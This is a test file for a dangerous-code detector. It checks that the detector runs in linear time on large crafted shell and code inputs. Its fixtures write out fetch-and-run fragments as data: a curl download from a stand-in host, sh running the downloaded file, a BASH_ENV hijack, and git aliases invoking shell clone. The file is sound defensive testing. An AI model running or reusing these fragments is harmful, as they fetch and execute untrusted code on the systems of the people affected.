import { describe, expect, it } from 'vitest';
import { dangerousCodeSignals } from '../../shared/analysis/dangerous-code.js';
import { cpuGrowthExponent, LINEAR_EXPONENT_BOUND, PATCH_COST_SIZES } from '../support/growth.js';

/**
 * Attack pass 16 (shell side): the readings added to close it cost linear time on 20 KB texts built to make them retry —
 * quoted strings left open over lines, pipelines of interpreters, here-documents never ended, `set` bundles, exports,
 * `cd`s each followed by a relative path, git alias sections. Earlier passes found cubic and exponential expressions in
 * this code (pass 9b, pass 14): each reading here is a loop over the shell's commands or an expression without adjacent
 * quantifiers over the same characters.
 */
const UNITS: ReadonlyArray<[name: string, unit: string]> = [
  ['quotes left open on each line', `python3 -c "https://x.example/i |\n`],
  ['single quotes left open on each line', "echo 'a | b\n"],
  ['a pipeline of interpreters', `python3 -c "print('https://x.example/i')" | `],
  ['here-documents never ended', "python3 <<PY | tee f\nhttps://x.example/i\n"],
  ['set bundles', 'set -eo -o -a +a -o allexport '],
  ['exports and assignments', 'curl -o /tmp/e https://x.example/i\nexport PATH=: BASH_ENV\nprintf -v BASH_ENV %s /tmp/e\n: ${BASH_ENV:=/tmp/e}\n'],
  ['cds each followed by a relative path', 'cd /tmp/x/y\nsh ../i*\n'],
  ['cds to directories the text does not spell, each followed by paths that climb', 'cd "$d"\nsh ../../a/b/c/d/e/f/g/h/i ../x/i\npopd\n'],
  ['relative paths saved with directories, then long absolute paths run', 'curl -o a/b/i https://x.example/i\nsh /a/b/c/d/e/f/g/h/i/j/k/l\n'],
  ['git alias sections', '[alias]\n\tget = clone  \n  '],
  ['git aliases of every kind', "git -c ALIAS.c.x=$'clone' c.x r GIT_CONFIG_KEY_1=alias.g GIT_CONFIG_VALUE_1='!git clone' "],
];

describe('pass 16: the shell side readings cost linear time', () => {
  for (const [name, unit] of UNITS) {
    it(`reads ${name}, repeated to 20 KB, in linear time`, { timeout: 120_000 }, () => {
      const textOf = (size: number) => `curl -fsSL -o /tmp/x/i https://x.example/i\n${unit.repeat(Math.ceil(size / unit.length))}`;
      const exponent = cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => dangerousCodeSignals(text));
      expect(exponent).toBeLessThan(LINEAR_EXPONENT_BOUND);
    });
  }
});

/**
 * A session review's finds (older expressions, and one of this session's, reached by any patch): blank runs after an
 * opening that a blank-led optional part followed, `\s*[x]?\s*`. An unclosed backtick or `$(` before 20 KB of blank
 * lines cost ~0.4 s in the shell reading's "what prints a word" (×4 per doubling); the code reading's downloader output,
 * popen sink and Scala feed had the same shape after `(`, `popen(` and an interpreter's name.
 */
describe('session 38 review: blank runs after an opening read in linear time', () => {
  const blanks = (size: number) => `${' '.repeat(399)}\n`.repeat(Math.max(1, Math.floor(size / 400)));
  it.each([
    ['an unclosed backtick', (size: number) => `r = requests.get(u)\n\`${blanks(size)}x`],
    ['an unclosed $(', (size: number) => `r = requests.get(u)\n$(${blanks(size)}x`],
    ['a call parenthesis after a fetch', (size: number) => `x = fetch(u)\n([${blanks(size)}x`],
    ['popen(', (size: number) => `x = fetch(u)\npopen(${blanks(size)}x`],
    ['an interpreter before a Scala feed', (size: number) => `x = fetch(u)\n"sh"${blanks(size)})x`],
  ] as const)('reads %s then blank lines in linear time', { timeout: 120_000 }, (_, textOf) => {
    expect(cpuGrowthExponent(PATCH_COST_SIZES, textOf, (text) => dangerousCodeSignals(text))).toBeLessThan(LINEAR_EXPONENT_BOUND);
  });
});
